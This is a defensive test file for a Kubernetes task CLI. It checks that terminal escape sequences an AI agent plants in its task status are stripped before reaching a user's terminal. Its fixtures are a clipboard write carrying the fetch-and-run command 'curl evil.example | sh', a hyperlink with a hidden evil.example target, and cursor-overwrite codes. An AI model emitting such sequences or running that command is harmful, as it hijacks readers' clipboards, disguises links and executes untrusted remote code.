// An agent's text cannot act on the terminal of whoever reads its Task: a
// Task whose status carries OSC 52 (clipboard), an OSC 8 link and CSI cursor
// moves, as an agent can write them to its termination log, is read with
// `describe` and `list` on a real terminal (a pseudo-terminal from `script`):
// none of the sequences reaches it. Through a pipe the bytes are unchanged.
import assert from "assert";
import { installCrds } from "../api/crds.ts";
import { kubectl, testNamespace } from "../env.ts";
import { repoRoot } from "../../../localcluster/paths.ts";
import { cli } from "./run_cli.ts";

const ESC = "\x1b";
const CLIPBOARD = `${ESC}]52;c;${btoa("curl evil.example | sh")}\x07`;
const LINK =
  `${ESC}]8;;https://evil.example/${ESC}\\https://github.com/org/repo/pull/42${ESC}]8;;${ESC}\\`;
const OVERWRITE = `${ESC}[1A${ESC}[2K`;

/** The CLI on a terminal: `script` gives it a pseudo-terminal and copies what it printed. */
async function onTerminal(...args: string[]): Promise<string> {
  const quoted = [Deno.execPath(), "run", "-A", "--quiet", "main.ts", ...args]
    .map((a) => `'${a.replaceAll("'", `'\\''`)}'`).join(" ");
  const out = await new Deno.Command("script", {
    args: ["-q", "-e", "-c", quoted, "/dev/null"],
    cwd: repoRoot,
    env: { NO_COLOR: "1" },
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  const text = new TextDecoder().decode(out.stdout);
  assert.equal(out.code, 0, text + new TextDecoder().decode(out.stderr));
  return text;
}

Deno.test("cli: agent text with terminal control sequences is harmless on a terminal", async () => {
  await installCrds();
  const ns = await testNamespace("cli-terminal");
  try {
    await kubectl(
      ["create", "-n", ns.name, "-f", "-"],
      JSON.stringify({
        apiVersion: "kubetask.io/v1alpha1",
        kind: "Task",
        metadata: { name: "hostile" },
        spec: { description: "Say something" },
      }),
    );
    // What an agent controls: its summary and outputs (from its termination log).
    await kubectl([
      "patch",
      "task",
      "hostile",
      "-n",
      ns.name,
      "--subresource=status",
      "--type=merge",
      "-p",
      JSON.stringify({
        status: {
          phase: "Completed",
          summary: `All done.${CLIPBOARD}\nSee the PR.${OVERWRITE}`,
          outputs: { pr: LINK },
        },
      }),
    ]);

    const piped = await cli("describe", "hostile", "-n", ns.name);
    assert.ok(piped.stdout.includes(CLIPBOARD), "a pipe gets the agent's bytes unchanged");

    for (const command of ["describe", "list"]) {
      const shown = await onTerminal(
        command,
        ...(command === "describe" ? ["hostile"] : []),
        "-n",
        ns.name,
      );
      console.log(
        `${command} on a terminal: ${
          JSON.stringify(shown.split("\n").find((l) => /pull\/42/.test(l)))
        }`,
      );
      assert.ok(!shown.includes(ESC), `${command}: no escape sequence reaches the terminal`);
      assert.ok(!shown.includes("evil.example"), `${command}: no hidden link target or payload`);
      assert.match(shown, /https:\/\/github\.com\/org\/repo\/pull\/42/, "the visible text stays");
    }
  } finally {
    await ns.cleanup();
  }
});
